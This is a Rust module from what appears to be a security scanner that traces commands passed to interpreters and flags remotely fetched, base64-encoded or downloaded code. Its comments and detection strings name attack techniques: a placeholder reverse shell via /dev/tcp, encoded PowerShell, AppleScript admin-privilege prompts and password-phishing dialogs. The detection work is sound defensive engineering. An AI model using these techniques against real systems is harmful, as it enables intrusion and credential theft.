//! Interpreters: what they are given to run, as text, as a file, through their input.

use super::call::Call;
use crate::scan::finding::{Context, Severity};
use crate::scan::findings::Match;
use crate::scan::flow::Keys;
use crate::scan::kind::{Language, has_extension, of_interpreter};
use crate::scan::rules;
use crate::scan::shell_flow::{Taint, Value, Walk};
use std::ops::Range;

/// `perl -MLWP::Simple -e …`, `ruby -ropen-uri -e …`: the libraries that options load, as the code
/// would load them.
fn loaded(language: Language, options: &[Value]) -> String {
    let (option, load, end) = match language {
        Language::Perl => ("-M", "use ", ";"),
        Language::Ruby => ("-r", "require '", "';"),
        _ => return String::new(),
    };
    let names = options.iter().filter_map(|o| o.text.strip_prefix(option));
    let parts = names.filter(|name| !name.is_empty()).flat_map(|name| [load, name, end, " "]);
    parts.collect()
}

/// The file that an interpreter is given: `pipefail` of `bash -o pipefail` is none.
fn given_file(call: &Call, language: Language) -> Option<Value> {
    let takes_word = |option: &str| {
        matches!(language, Language::Shell | Language::Fish)
            && (matches!(option, "--rcfile" | "--init-file" | "+o" | "+O")
                || option.starts_with('-')
                    && !option.starts_with("--")
                    && option.ends_with(['o', 'O']))
    };
    let mut before = "";
    for argument in &call.arguments {
        let text = argument.text.as_str();
        if !text.is_empty() && !text.starts_with('-') && !takes_word(before) {
            return Some(argument.clone());
        }
        before = text;
    }
    None
}

/// The address that is the program itself: `deno run -A https://…`, `node --import https://… main.mjs`,
/// `uv run https://…`. What stands behind the program's own file is an argument of it, and Python opens
/// files alone.
fn fetched_program(call: &Call, language: Language) -> Option<String> {
    const LOADS: [&str; 5] = ["--preload", "--import", "--require", "-r", "--loader"];
    if language != Language::JavaScript && call.name != "uv" {
        return None;
    }
    let mut before = "";
    for argument in &call.arguments {
        let text = argument.text.as_str();
        if is_address(text) {
            return Some(text.to_owned());
        }
        // A word behind an option may be its value; another one is a command of the runtime, or a program.
        let is_own = text.starts_with('-')
            || matches!(text, "run" | "install" | "x" | "exec" | "eval" | "serve" | "test");
        let is_program = is_script(text) && !LOADS.contains(&before);
        if is_program || !is_own && !before.starts_with('-') {
            return None;
        }
        before = text;
    }
    None
}

/// Whether a path is named as that of data or of an archive, which a sentence names and does not start.
fn is_data(path: &str) -> bool {
    #[rustfmt::skip]
    const ENDINGS: [&str; 30] = [
        "json", "jsonl", "yaml", "yml", "toml", "ini", "cfg", "conf", "xml", "csv", "tsv", "md", "txt", "log", "lock",
        "env", "html", "pdf", "png", "jpg", "svg", "zip", "tar", "gz", "tgz", "xz", "7z", "db", "sqlite", "parquet",
    ];
    ENDINGS.iter().any(|ending| has_extension(path, ending))
}

/// Whether code of Python has what the shell puts into it parsed as data, and does nothing else with it:
/// `json.loads('$answer')`.
fn is_parsed(code: &str) -> bool {
    const RUNS: [&str; 7] = ["exec", "eval", "compile", "import_", "system", "popen", "subprocess"];
    let parsed: usize =
        ["json.loads('$", "json.loads('''$"].iter().map(|call| code.matches(call).count()).sum();
    parsed > 0
        && parsed == code.matches(['$', '`']).count()
        && !RUNS.iter().any(|word| code.contains(word))
}

fn is_address(word: &str) -> bool {
    ["http://", "https://", "data:"].iter().any(|scheme| word.starts_with(scheme))
}

/// Whether a word is the name of a file with code for such a runtime.
fn is_script(word: &str) -> bool {
    ["js", "mjs", "cjs", "ts", "mts", "cts", "tsx", "jsx", "py"]
        .iter()
        .any(|ending| has_extension(word, ending))
}

impl Walk<'_, '_, '_> {
    /// A program that runs what it is given: `sh`, `python`, `./downloaded`.
    pub(super) fn interpret(
        &mut self,
        call: &Call,
        input: &Taint,
        input_text: &str,
        at: &Range<usize>,
    ) {
        let name = call.name.rsplit('/').next().unwrap_or(&call.name).to_owned();
        let shown = format!("`{name}`");
        let Some(language) = of_interpreter(&name) else {
            // A path that was downloaded or decoded before, and is now started.
            let mut taint = Taint::default();
            // A name in a sentence is not started, unless it is a path, and one to something that can be.
            let mentioned =
                !call.written.contains('/') || call.arguments.is_empty() && is_data(&call.written);
            if self.passage.context == Context::InlineCode && mentioned {
                return;
            }
            for name in [call.name.as_str(), &format!("{}.exe", call.name), call.written.as_str()] {
                taint.add(&self.held(name));
            }
            let found = self.runs(&taint, "the system");
            self.report_some(at, found);
            return;
        };
        let code = call.arguments.iter().position(|a| {
            let option = a.text.as_str();
            // `sh -e`, `bash -p`: of the options of a shell only `c` takes a script, alone or among others.
            if matches!(language, Language::Shell | Language::Fish) {
                return option.starts_with('-')
                    && !option.starts_with("--")
                    && option.contains('c');
            }
            let power = language == Language::PowerShell
                && ["-c", "-command", "-encodedcommand", "-enc", "-e", "-ec", "/c"]
                    .contains(&option.to_ascii_lowercase().as_str());
            power
                || matches!(
                    option,
                    "-c" | "-e"
                        | "-r"
                        | "-E"
                        | "--eval"
                        | "-lc"
                        | "-ec"
                        | "-ic"
                        | "-pe"
                        | "-ne"
                        | "-p"
                        | "-n"
                        | "-m"
                        | "/c"
                        | "/C"
                        | "-xc"
                        | "-exc"
                        | "-cl"
                        | "-l"
                        | "-0777"
                        | "eval"
                        | "-Command"
                ) && !(option == "-l" && language != Language::AppleScript)
        });
        let mut taint = Taint::default();
        // deno run https://…
        if let Some(address) = fetched_program(call, language).filter(|_| code.is_none()) {
            taint.add(&Taint::remote(address));
        }
        match code {
            Some(position) if call.arguments[position].text != "-m" => {
                let option = call.arguments[position].text.to_ascii_lowercase();
                if let Some(argument) = call.arguments.get(position + 1) {
                    taint.add(&argument.taint);
                    // pwsh -Command -
                    if argument.text == "-" {
                        taint.add(input);
                    }
                    let text = argument.text.clone();
                    let start = call.spans.get(position + 1).map_or(at.start, |span| span.start);
                    // `-enc SQBFAFgA…` is shown, not run.
                    let cut = text.ends_with("...") || text.ends_with('…');
                    if !cut
                        && (option.starts_with("-enc")
                            || option == "-ec"
                            || language == Language::PowerShell && option == "-e")
                    {
                        taint.add(&Taint::decoded("base64"));
                    }
                    if language == Language::AppleScript {
                        self.apple_script(&call.text(), start);
                    } else if language == Language::Shell || language == Language::Batch {
                        let mut inner = input.clone();
                        inner.add(&taint);
                        self.nested(&text, start, input);
                    } else {
                        let text =
                            format!("{}{text}", loaded(language, &call.arguments[..position]));
                        self.embed(language, &text, start);
                    }
                }
                let written = call.spans.get(position + 1);
                let written = written.and_then(|span| self.source.get(span.clone()));
                if language == Language::Python && written.is_some_and(is_parsed) {
                    taint.remote = None;
                }
                // Text that is data for the code: only what the code is made of counts.
                taint.keys = Keys::default();
                taint.secrets.clear();
                taint.environment = false;
            }
            Some(_) => {}
            None => {
                let file = given_file(call, language);
                let from_input = call.has(&["-s"])
                    || matches!(language, Language::Shell) && call.has_letter('s');
                match file {
                    Some(file)
                        if file.text != "-"
                            && file.text != "/dev/stdin"
                            && !from_input
                            && !(file.text == "run" && call.has(&["-"])) =>
                    {
                        taint.add(&self.held(&file.text));
                        if file.text == "<()" || file.text.contains("<()") || file.text == "$()" {
                            taint.add(&file.taint);
                        }
                    }
                    _ => {
                        taint.add(input);
                        taint.add(&self.descriptor("0"));
                        if !input_text.is_empty()
                            && language == Language::Shell
                            && input.remote.is_none()
                            && !input_text.contains("EOF")
                        {
                            self.nested(input_text, at.start, &Taint::default());
                        }
                    }
                }
            }
        }
        let found = self.runs(&taint, &shown);
        self.report_some(at, found);
        // bash -i >& /dev/tcp/host/port 0>&1
        if language == Language::Shell {
            let line = self.source.get(at.clone()).unwrap_or_default();
            let tied = ["-i ", "0>&1", "0<&", "<&", ">& /dev", "&> /dev", "> /dev/tcp"];
            if let Some(i) = line.find("/dev/tcp/").or_else(|| line.find("/dev/udp/"))
                && tied.iter().any(|part| line.contains(part))
            {
                let rest = &line[i + 9..];
                let end = rest
                    .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ';' | '&'))
                    .unwrap_or(rest.len());
                let address = self.resolve(&rest[..end]);
                self.shell_to(&format!("tcp://{}", address.replacen('/', ":", 1)), at);
            }
        }
    }

    /// Variables in a text, as far as they are known.
    pub(super) fn resolve(&self, text: &str) -> String {
        let mut out = text.to_owned();
        for (name, value) in self.memory.variables.iter() {
            if out.contains('$') {
                out = out
                    .replace(&format!("${{{name}}}"), &value.text)
                    .replace(&format!("${name}"), &value.text);
            }
        }
        out
    }

    /// `do shell script "…" with administrator privileges`.
    pub(in crate::scan::shell_flow) fn apple_script(&mut self, text: &str, at: usize) {
        if let Some(i) = text.find("do shell script") {
            let rest = &text[i..];
            let command = rest.split('"').nth(1).unwrap_or_default().to_owned();
            if rest.contains("administrator privileges") {
                self.report(
                    &(at..at + 1),
                    Match::new(
                        &rules::CREDENTIAL_WRITE,
                        Severity::Critical,
                        "a shell command asks for the administrator's rights",
                    ),
                );
            }
            self.nested(&command, at, &Taint::default());
        }
        if text.contains("display dialog") && text.contains("hidden answer") {
            self.report(
                &(at..at + 1),
                Match::new(
                    &rules::DECEIVE_USER,
                    Severity::Critical,
                    "a window asks for the person's password",
                ),
            );
        }
    }
}
